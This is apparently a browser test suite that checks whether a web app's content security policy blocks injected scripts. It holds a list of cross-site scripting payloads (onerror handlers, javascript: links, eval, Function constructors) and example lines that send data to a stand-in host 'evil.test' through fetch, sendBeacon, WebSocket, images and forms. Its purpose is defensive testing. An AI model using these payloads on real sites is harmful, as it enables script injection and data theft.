"""The page's policy in a browser: a script that got into the page does not run, whichever way it came, and all that the
page does itself goes on."""

import json
from urllib.parse import quote

import pytest

from tests.browser.conftest import FIRST, blank_page
from tests.support.visitor import SOON, expect, open_tab, settle

pytestmark = pytest.mark.browser

# Each tries to run `window.pwned = 1`, or to reach another host; each is started by a script of the page's own world.
SCRIPT = "window.pwned=1"
WAYS = {
    "script": f"{{ const s = document.createElement('script'); s.textContent = '{SCRIPT}'; document.body.append(s); }}",
    "elsewhere": "{ const s = document.createElement('script'); s.src = 'https://evil.test/x.js'; "
    "document.body.append(s); }",
    "data": f"{{ const s = document.createElement('script'); s.src = 'data:text/javascript,{SCRIPT}'; "
    "document.body.append(s); }",
    "module": f"import('data:text/javascript,{SCRIPT}').catch(() => 0);",
    "blob": f"import(URL.createObjectURL(new Blob(['{SCRIPT}'], {{ type: 'text/javascript' }}))).catch(() => 0);",
    "handler": f"box.innerHTML = '<img src=x onerror={SCRIPT}><details open ontoggle={SCRIPT}>';",
    "attribute": f"box.setAttribute('onclick', '{SCRIPT}'); box.click();",
    "link": f"box.innerHTML = '<a href=\"javascript:{SCRIPT}\">x</a>'; box.firstChild.click();",
    "address": f"location.href = 'javascript:{SCRIPT}';",
    "frame": "box.innerHTML = '<iframe src=\"https://evil.test/\"></iframe>';",
    "written": f"box.innerHTML = '<iframe srcdoc=\"<script>parent.{SCRIPT}</script>\"></iframe>'; "
    "box.firstChild.onload = () => document.dispatchEvent(new Event('tried'));",  # refused inside its frame
    "eval": f"eval('{SCRIPT}');",
    "timer": f"setTimeout('{SCRIPT}');",
    "function": f"Function('{SCRIPT}')();",
    "later": f"(async () => {{}}).constructor('{SCRIPT}')();",
    "generator": f"(function* () {{}}).constructor('{SCRIPT}')().next();",
    "own": f"(() => {{}}).constructor('{SCRIPT}')();",
    "style": "{ const s = document.createElement('style'); s.textContent = 'body { --pwned: 1 }'; "
    "document.head.append(s); }",
    "sheet": "document.head.append(Object.assign(document.createElement('link'), "
    "{ rel: 'stylesheet', href: 'https://evil.test/x.css' }));",
    "fetch": "fetch('https://evil.test/?stolen').catch(() => 0);",
    "beacon": "navigator.sendBeacon('https://evil.test/?stolen');",
    "socket": "new WebSocket('wss://evil.test/');",
    "picture": "box.innerHTML = '<img src=\"https://evil.test/?stolen\">';",
    "ground": "box.style.backgroundImage = 'url(https://evil.test/?stolen)';",
    "form": "box.innerHTML = '<form action=\"https://evil.test/\" method=post></form>'; box.firstChild.submit();",
    "base": "document.head.prepend(Object.assign(document.createElement('base'), { href: 'https://evil.test/' }));",
    "object": 'box.innerHTML = \'<object data="https://evil.test/x.pdf"></object><embed src="https://evil.test/x">\';',
    "worker": f"new Worker('data:text/javascript,{SCRIPT}');",
}
REFUSED = ("function", "later")  # by the page itself, without asking the browser
# Takes one way after the other; each has two seconds to be refused, by an error or by a message of the policy.
TRY = """async (names) => {
  const told = {};
  for (const name of names) {
    const box = document.createElement("div");
    document.body.append(box);
    told[name] = await new Promise((done) => {
      document.addEventListener("securitypolicyviolation", (event) => done(event.effectiveDirective), { once: true });
      document.addEventListener("tried", () => done("tried"), { once: true });
      setTimeout(done, 2000, "");
      try { window.tries[name](box); } catch (error) { done(error.name); }
    });
    await new Promise((done) => setTimeout(done, 20));
    box.remove();
  }
  return told;
}"""


def test_a_script_that_got_in_does_not_run(profile, app_url):
    """The ways stand in a file of the page's own, as its scripts do: what a test's tool runs is free of the policy."""
    page, elsewhere = blank_page(profile), []
    page.on("dialog", lambda dialog: (elsewhere.append(dialog.message), dialog.dismiss()))
    tries = "".join(f"{name}(box) {{ {way} }}," for name, way in WAYS.items())
    address = f"{app_url}playground/static/tries.js"
    page.route(
        address, lambda route: route.fulfill(body=f"window.tries = {{{tries}}};", content_type="text/javascript")
    )
    page.goto(app_url)
    page.locator(FIRST).wait_for(timeout=SOON)
    page.on("response", lambda answer: elsewhere.append(answer.url) if "evil.test" in answer.url else None)
    page.evaluate(
        "src => new Promise((done) => { const s = document.createElement('script'); s.src = src; s.onload = done; "
        "document.head.append(s); })",
        address,
    )
    told = page.evaluate(TRY, list(WAYS))
    assert [name for name, said in told.items() if not said] == []
    assert {told[name] for name in REFUSED} == {"EvalError"} and told["written"] == "tried"
    assert page.evaluate("[window.pwned, getComputedStyle(document.body).getPropertyValue('--pwned')]") == [None, ""]
    assert page.url == app_url and not elsewhere
    page.close()


# What a stranger writes where a name, a title or a role stands; `pwned` must never be set by any of it.
TEXTS = (
    f"<img src=x onerror={SCRIPT}>",
    f'<a href="javascript:{SCRIPT}">go</a>',
    f"<svg><script>{SCRIPT}</script></svg>",
    "${window.pwned=1}{{window.pwned=1}}",
    f"</script><script>{SCRIPT}</script>",
    "<img src=https://evil.test/?stolen>",
)


def states():
    """State files in which each such text stands wherever a state holds a text."""
    for text in TEXTS:
        named = {"name": text, "method": "sample", "options": {text: text}, "steps": [{"warp": text}]}
        yield {
            "v": 1,
            "prompt": text,
            "tab": "sampling",
            "edits": [{"kind": text, "layer": 0}],
            "values": {
                "sampling_view": {"view": "side_by_side"},
                "strategies": {"strategies": [named], "settings": {"tokens": text}},
                "anatomy_form": {"which": "pasted", "config": text},
                "map_plot": {"title": text, "name": text},
                "chat": {"turns": [{"role": text, "content": text}]},
            },
        }


def test_no_text_of_a_link_or_a_state_file_is_even_tried_as_a_script(profile, app_url):
    page, wrong = blank_page(profile), []
    page.on("dialog", lambda dialog: (wrong.append(dialog.message), dialog.dismiss()))
    page.on("request", lambda asked: wrong.append(asked.url) if "evil.test" in asked.url else None)
    page.add_init_script(
        "window.against = []; document.addEventListener('securitypolicyviolation', "
        "(event) => window.against.push(`${event.effectiveDirective} ${event.sample}`));"
    )
    page.goto(f"{app_url}?prompt={quote(TEXTS[0])}&lang={quote(TEXTS[1])}#prompt={quote(TEXTS[0])}")
    page.locator(FIRST).wait_for(timeout=SOON)
    page.locator(".pg-share").click()
    for state in states():
        content = json.dumps(state).encode()
        page.locator("#pg-share-box input[type=file]").set_input_files(
            {"name": f"{state['prompt'][:40]}.json", "mimeType": "application/json", "buffer": content}
        )
        page.wait_for_function("text => playground.state().prompt === text", arg=state["prompt"], timeout=SOON)
        settle(page)
        expect(page.locator("#prompt textarea")).to_have_value(state["prompt"])
    for tab in ("Anatomy", "Attention"):
        open_tab(page, tab)
        settle(page)
    assert page.evaluate("[window.pwned, ...window.against]") == [None] and not wrong
    page.close()
